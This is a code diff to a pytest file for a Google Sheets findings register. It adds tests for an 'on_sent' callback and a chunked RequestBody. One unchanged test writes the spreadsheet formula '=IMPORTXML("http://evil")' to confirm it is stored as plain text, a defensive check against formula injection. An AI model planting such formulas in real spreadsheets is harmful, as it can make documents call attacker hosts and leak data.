@@ -13,7 +13,7 @@ import pytest
 from pmsheets.cli import main
 from pmsheets.emulator import DEFAULT_EMAIL, SheetsEmulator
 from pmsheets.errors import RegisterError
-from pmsheets.register.sheets import RetryPolicy, SheetsRegister, SheetsUnavailable
+from pmsheets.register.sheets import RequestBody, RetryPolicy, SheetsRegister, SheetsUnavailable
 from pmsheets.schema import FINDINGS_HEADERS
 from tests.conftest import ACTION_HEADERS, INCIDENT_HEADERS, action_row, incident_row, tables, write_workbook
 
@@ -92,6 +92,22 @@ def test_findings_are_written_as_text_never_formulas(emulator: SheetsEmulator, s
     key = sheet_key(emulator, tmp_path, register_with_actions(1))
     backend(sheets_client, key).write_findings([["error", "r", "", "", "", "=IMPORTXML(\"http://evil\")"]])
     assert emulator.store.rows(key, "Findings", render="FORMULA")[1][5] == '=IMPORTXML("http://evil")'
+
+
+def test_findings_write_says_when_the_rows_have_left(emulator: SheetsEmulator, sheets_client: gspread.Client, tmp_path: Path) -> None:
+    key = sheet_key(emulator, tmp_path, register_with_actions(1))
+    calls: list[int] = []
+    backend(sheets_client, key).write_findings([FINDING], on_sent=lambda: calls.append(len(calls)))
+    assert calls == [0]
+    assert emulator.store.rows(key, "Findings")[1] == FINDING
+
+
+def test_request_body_signals_only_after_its_last_chunk() -> None:
+    seen: list[str] = []
+    body = RequestBody([b"a", b"b"], on_sent=lambda: seen.append("sent"))
+    for chunk in body:
+        seen.append(chunk.decode())
+    assert seen == ["a", "b", "sent"]
 
 
 def test_writing_findings_leaves_pm_tabs_untouched(emulator: SheetsEmulator, sheets_client: gspread.Client, tmp_path: Path) -> None:
